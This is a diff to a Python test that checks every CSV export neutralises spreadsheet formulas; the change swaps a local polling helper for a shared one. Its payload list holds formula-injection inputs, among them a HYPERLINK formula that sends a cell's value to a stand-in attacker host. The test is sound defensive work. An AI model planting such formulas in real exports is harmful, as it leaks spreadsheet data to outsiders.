@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import re
-import time
 from datetime import date, datetime, timedelta
 from pathlib import Path
 
@@ -14,11 +13,9 @@ from sqlmodel import Session
 
 from app.analytics import get_store
 from app.analytics.store import FactRow
-from app.db import session_scope
-from app.models.report import ReportRun
 from app.services import app_lists, campaign_export, campaigns, report_jobs, reports
 from app.settings import REPO_ROOT
-from tests.helpers import actor_of
+from tests.helpers import actor_of, wait_for_run
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1+2", "@SUM(1)", "\t=1+1", "\r=1+1"]
 DANGEROUS = campaign_export.FORMULA_STARTS
@@ -42,18 +39,6 @@ def _assert_inert(cells: list[str], expected: list[str]) -> None:
     assert not [cell for cell in cells if cell.startswith(DANGEROUS)], cells
     for value in expected:
         assert ("'" + value if value.startswith(DANGEROUS) else value) in cells, (value, cells)
-
-
-def _wait(run_id: int) -> ReportRun:
-    deadline = time.monotonic() + 60
-    while time.monotonic() < deadline:
-        with session_scope() as db:
-            run = db.get(ReportRun, run_id)
-            assert run is not None
-            if run.status in ("completed", "failed"):
-                return run
-        time.sleep(0.05)
-    raise AssertionError(f"run {run_id} did not finish")
 
 
 def test_every_export_neutralises_formulas(db: Session, demo_ids: dict[str, int]) -> None:
@@ -84,7 +69,7 @@ def test_every_export_neutralises_formulas(db: Session, demo_ids: dict[str, int]
     run_id = reports.start_run(db, actor=me, report_id=report["id"])["id"]
     db.commit()
     try:
-        run = _wait(run_id)
+        run = wait_for_run(run_id)
     finally:
         report_jobs.shutdown()
     assert run.status == "completed", run.error
